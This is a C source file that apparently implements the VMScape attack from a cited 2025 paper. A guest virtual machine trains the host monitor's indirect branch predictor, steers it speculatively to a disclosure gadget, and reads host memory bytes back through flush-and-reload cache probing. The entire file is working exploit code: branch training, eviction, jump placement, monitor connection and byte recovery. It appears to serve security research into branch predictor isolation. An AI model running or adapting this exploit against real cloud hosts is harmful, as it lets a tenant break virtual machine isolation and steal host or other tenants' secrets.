/*
 * VMScape (Wikner et al., "VMSCAPE: Exposing and Exploiting Incomplete Branch Predictor Isolation in
 * Cloud Environments", 2025): a guest trains an indirect branch of the monitor that runs it, a process
 * of the host's user mode. Kernels protect themselves from what guests have trained, but user mode uses
 * it. The monitor's call of a device is sent to code of its own that reads where the device's value
 * points, which the guest has written, and leaves the byte as lines of the guest's memory.
 *
 * All happens inside; the tenant outside says which byte is next.
 */
#include "attack.h"

#include "evict.h"
#include "machine.h"
#include "monitor.h"
#include "service.h"
#include "train.h"

enum { ATTEMPTS = 2 };

/* Inside, where devices are. */
static volatile uint64_t *const doorbell = (volatile uint64_t *)(1ULL << 40);

static struct machine machine;
static int monitor;

/* Inside: the monitor's addresses, the wanted one among them, and what was seen. */
static uint64_t branch, disclosure, slow, wanted;
static int shown;

/* Inside: how much displaces lines from the second level. More would displace the monitor's code, too, by page tables. */
static long pages_to_displace;

/* Inside: the probe, in the device's buffer. */
static const uint8_t *const buffer = (const uint8_t *)MACHINE_BUFFER;

/*
 * The first attempt fetches the code that it sends the monitor to, if what the monitor and the host did before
 * has displaced it, which takes what time there is. Right after that, it is near.
 */
static void sample_inside(void)
{
	__asm__ volatile("out %%al, %0" : : "i"(DISK_PORT) : "memory");
	shown = NOTHING;
	for (int i = 0; i < ATTEMPTS && shown == NOTHING; i++) {
		forget_histories();
		displace(slow, pages_to_displace);
		train((const uint8_t *)branch, disclosure);
		flush_probe(buffer);
		*doorbell = wanted;
		shown = reload_probe(buffer);
	}
}

static int sample(int index)
{
	uint8_t byte = 0;

	*IN_MACHINE(&machine, wanted) = options.address + index;
	*IN_MACHINE(&machine, machine_task) = sample_inside;
	if (write(monitor, &byte, 1) != 1 || read(monitor, &byte, 1) != 1)
		errx(1, "expected an answer of the monitor");
	if (byte) {
		printf("the machine ended with exit reason %d\n", byte);
		exit(1);
	}
	return *IN_MACHINE(&machine, shown);
}

/* An indirect jump by %rax inside, whose last byte is that of the monitor's call. */
static void place_jump(uint64_t last)
{
	static const uint8_t jump[] = { 0xff, 0xe0 };
	static uint8_t pages[2][CODE_PAGE] __attribute__((aligned(CODE_PAGE)));
	int used = 0;

	for (int i = 0; i < BRANCH_BYTES; i++) {
		uint64_t address = last - 1 + i;
		uint64_t *entry = machine_entry(&machine, address);

		if (i == 0 || address % CODE_PAGE == 0)
			machine_map(&machine, address & -(uint64_t)CODE_PAGE, MACHINE_OFFSET(pages[used++]));
		machine.virtual.memory[(*entry & entry_frame) + address % CODE_PAGE] = jump[i];
	}
}

int main(int argc, char **argv)
{
	uint64_t begin = (uintptr_t)machine_loop;
	int file = memfd_create("memory", 0);

	parse_options(argc, argv);
	if (!options.address || !options.monitor || !options.branches.count || !options.disclosures.count)
		errx(2, "expected --address, --monitor, --branch and --disclosure");
	calibrate();
	branch = options.branches.at[0] - 1;
	disclosure = options.disclosures.at[0];
	slow = options.slow;
	pages_to_displace = second_level_pages();
	if (pages_to_displace > MACHINE_FREE_PAGES)
		pages_to_displace = MACHINE_FREE_PAGES;
	if (file < 0 || ftruncate(file, MACHINE_BYTES))
		err(1, "memory");
	machine_fill(&machine, file);
	machine_map(&machine, (uintptr_t)doorbell, DOORBELL);
	place_jump(options.branches.at[0]);
	monitor = connect_to(options.monitor, SOCK_STREAM);
	send_descriptor(monitor, file);
	if (write(monitor, &begin, sizeof(begin)) != sizeof(begin))
		err(1, "monitor");
	recover(sample, (struct patience){ .samples = 8, .lead = 2 }, 1);
	return 0;
}
